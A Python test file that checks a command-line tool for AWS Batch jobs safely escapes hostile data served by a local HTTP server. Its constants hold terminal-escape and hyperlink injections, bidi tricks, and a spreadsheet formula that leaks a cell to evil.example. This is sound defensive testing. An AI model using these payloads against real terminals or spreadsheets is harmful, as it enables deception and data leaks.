"""The CLI against a real HTTP endpoint serving hostile text (no FakeAWS, no stubs).

A stdlib ``http.server`` on 127.0.0.1 answers Batch ``ListJobs`` and ``DescribeJobs`` with jobs
whose names and reasons carry terminal escape sequences, C1 controls, bidi overrides and a
spreadsheet formula; ``python -m batchkit --endpoint-url ...`` runs as a real process.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
HOSTILE_NAME = "\x1b]0;pwned\x07\x1b[2Jtrain\u202egnp.exe\u2066x\u2069 [bold]b[/bold] été"
HOSTILE_REASON = f"{OSC8} \x9b31mred\x9b0m\r\nforged line\x1b[1A\x1b[K"
HOSTILE_CONTAINER = "OutOfMemory\x1b]0;pwned again\x07 \x85next"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
CREATED = 1_793_491_200_000


def summaries() -> list[dict[str, Any]]:
    return [
        {
            "jobArn": "arn:aws:batch:us-east-1:123456789012:job/job-1",
            "jobId": "job-1",
            "jobName": HOSTILE_NAME,
            "createdAt": CREATED,
            "status": "FAILED",
            "statusReason": HOSTILE_REASON,
            "startedAt": CREATED + 60_000,
            "stoppedAt": CREATED + 120_000,
            "container": {"exitCode": -1, "reason": HOSTILE_CONTAINER},
            "jobDefinition": "arn:aws:batch:us-east-1:123456789012:job-definition/train:1",
        },
        {
            "jobArn": "arn:aws:batch:us-east-1:123456789012:job/job-2",
            "jobId": "job-2",
            "jobName": FORMULA,
            "createdAt": CREATED - 1_000,
            "status": "FAILED",
            "container": {"exitCode": 2},
            "jobDefinition": "arn:aws:batch:us-east-1:123456789012:job-definition/train:1",
        },
    ]


def detail(summary: dict[str, Any]) -> dict[str, Any]:
    job = {k: v for k, v in summary.items() if k != "container"}
    job["jobQueue"] = "arn:aws:batch:us-east-1:123456789012:job-queue/q"
    job["container"] = {"image": "busybox", **summary["container"]}
    return job


class Handler(BaseHTTPRequestHandler):
    requests: list[tuple[str, dict[str, Any]]]

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length) or b"{}")
        type(self).requests.append((self.path, body))
        if self.path == "/v1/listjobs":
            payload: dict[str, Any] = {"jobSummaryList": summaries()}
        elif self.path == "/v1/describejobs":
            wanted = set(body.get("jobs", []))
            payload = {"jobs": [detail(s) for s in summaries() if s["jobId"] in wanted]}
        else:
            self.send_error(404)
            return
        data = json.dumps(payload, ensure_ascii=False).encode()  # C1/bidi as raw UTF-8
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.send_header("x-amzn-RequestId", "req-hostile")
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        pass


@pytest.fixture(scope="module")
def endpoint() -> Iterator[tuple[str, list[tuple[str, dict[str, Any]]]]]:
    requests: list[tuple[str, dict[str, Any]]] = []
    handler = type("HostileHandler", (Handler,), {"requests": requests})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)
    assert not thread.is_alive()


def batchkit(
    endpoint: str, *args: str, encoding: str = "utf-8"
) -> subprocess.CompletedProcess[str]:
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith("AWS_") and k.lower() not in ("http_proxy", "https_proxy", "all_proxy")
    }
    env |= {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_SESSION_TOKEN": "testing",
        "AWS_DEFAULT_REGION": "us-east-1",
        "AWS_CONFIG_FILE": os.devnull,
        "AWS_SHARED_CREDENTIALS_FILE": os.devnull,
        "AWS_EC2_METADATA_DISABLED": "true",
        "AWS_MAX_ATTEMPTS": "1",
        "NO_PROXY": "127.0.0.1,localhost",
        "no_proxy": "127.0.0.1,localhost",
        "PYTHONIOENCODING": encoding,
        "NO_COLOR": "1",
    }
    return subprocess.run(
        [sys.executable, "-m", "batchkit", "--endpoint-url", endpoint, *args],
        capture_output=True,
        env=env,
        timeout=120,
        check=False,
        encoding="utf-8",
        errors="strict",
    )


def assert_inert(result: subprocess.CompletedProcess[str]) -> None:
    """Nothing a terminal would interpret, on either stream (newlines end lines)."""
    assert result.returncode == 0, result.stderr
    for stream in (result.stdout, result.stderr):
        found = CONTROL.findall(stream)
        assert not found, (found, stream)
    assert "\x1b" not in result.stdout + result.stderr
    assert "\r" not in result.stdout + result.stderr


def test_table(endpoint: tuple[str, list[Any]]) -> None:
    url, requests = endpoint
    result = batchkit(url, "jobs", "q", "--status", "FAILED")
    assert_inert(result)
    assert ("/v1/listjobs", {"jobQueue": "q", "jobStatus": "FAILED"}) in requests
    lines = result.stdout.splitlines()
    assert len(lines) == 3  # header and two rows: no forged line
    assert "\\x1b]0;pwned\\x07" in lines[1]  # shown, escaped
    described = batchkit(url, "describe", "job-1")
    assert_inert(described)
    assert len(described.stdout.splitlines()) == 2
    assert "\\x1b]8;;https://evil.example/" in described.stdout


def test_csv(endpoint: tuple[str, list[Any]]) -> None:
    url, _ = endpoint
    result = batchkit(url, "jobs", "q", "--status", "FAILED", "--format", "csv")
    assert_inert(result)
    rows = {row["job_id"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert rows["job-2"]["name"] == "'" + FORMULA  # not a formula any more
    assert rows["job-1"]["exit_code"] == "-1"  # a plain number
    assert rows["job-1"]["name"].startswith("\\x1b]0;pwned\\x07\\x1b[2Jtrain\\u202e")
    assert rows["job-1"]["created_at"] == "2026-11-01T00:00:00.000+00:00"
    details = batchkit(url, "describe", "job-1", "job-2", "--format", "csv")
    assert_inert(details)
    reasons = [row["status_reason"] for row in csv.DictReader(io.StringIO(details.stdout))]
    assert reasons[0].startswith("\\x1b]8;;https://evil.example/")
    assert "\\x0d\\x0aforged line" in reasons[0]
    assert "\\x9b31mred\\x9b0m" in reasons[0]


def test_json_is_exact(endpoint: tuple[str, list[Any]]) -> None:
    url, _ = endpoint
    result = batchkit(url, "jobs", "q", "--status", "FAILED", "--format", "json")
    assert result.returncode == 0, result.stderr
    assert result.stdout.isascii()  # every control and non-ASCII character escaped by json
    assert not CONTROL.search(result.stdout)
    assert json.loads(result.stdout) == summaries()
    described = batchkit(url, "describe", "job-1", "--format", "jsonl")
    assert described.returncode == 0, described.stderr
    assert json.loads(described.stdout) == detail(summaries()[0])


def test_an_ascii_terminal(endpoint: tuple[str, list[Any]]) -> None:
    url, _ = endpoint
    result = batchkit(url, "jobs", "q", "--status", "FAILED", encoding="ascii")
    assert_inert(result)
    assert result.stdout.isascii()
    assert "pwned" in result.stdout
